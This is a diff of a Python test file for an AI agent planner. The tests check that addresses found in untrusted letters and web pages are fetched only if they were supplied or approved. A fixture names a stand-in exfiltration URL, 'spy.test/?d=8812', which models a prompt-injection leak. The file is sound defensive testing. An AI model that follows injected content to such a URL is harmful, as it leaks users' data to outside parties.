@@ -16,8 +16,8 @@ from mindstream.models.fake import Line
 from mindstream.models.model import Call
 from mindstream.models.roles import Models
 from mindstream.text.links import links
-from mindstream.tools.given_addresses import addresses_of, ungiven
-from mindstream.tools.tool import FROM_STRANGERS, PLAIN, FunctionTool, Traits, tool
+from mindstream.tools.call import addresses_of, ungiven
+from mindstream.tools.tool import PLAIN, UNTRUSTED, FunctionTool, Traits, tool
 
 STOLEN = "https://spy.test/?d=8812"
 GIVEN = links(["https://a.test/x"])
@@ -31,9 +31,9 @@ class Web:
 
     def tools(self) -> list[FunctionTool]:
         return [
-            tool(self.read_letter, FROM_STRANGERS),
-            tool(self.search, Traits(foreign=True, finds=True)),
-            tool(self.read_page, FROM_STRANGERS),
+            tool(self.read_letter, UNTRUSTED),
+            tool(self.search, Traits(untrusted=True, finds=True)),
+            tool(self.read_page, UNTRUSTED),
         ]
 
     async def read_letter(self, name: str = "") -> str:
@@ -118,7 +118,7 @@ async def test_a_plan_fetches_the_addresses_that_it_was_written_with(plan: str, 
     model = FakeModel({"make_plan": [plan], "answer_from_evidence": ["done"], "mend_plan": [plan] * 3})
     solution = await Planner(models=model, tools=web.tools()).solve("What does the letter say?")
     assert web.fetched == fetched
-    assert fetched or "nobody approved" in solution.evidence["E2"].text
+    assert fetched or "not approved" in solution.evidence["E2"].text
 
 
 async def test_approval_lets_a_plan_fetch_another_address() -> None:
@@ -129,7 +129,7 @@ async def test_approval_lets_a_plan_fetch_another_address() -> None:
         return True
 
     model = FakeModel({"act_on_task": [[LETTER], [read(STOLEN)], "done"]})
-    await Planner(models=model, tools=web.tools(), how="react", leave=approve).solve("What does the letter say?")
+    await Planner(models=model, tools=web.tools(), how="react", approver=approve).solve("What does the letter say?")
     assert web.fetched == [STOLEN] and asked == ["spy.test/?d=8812"]
 
 
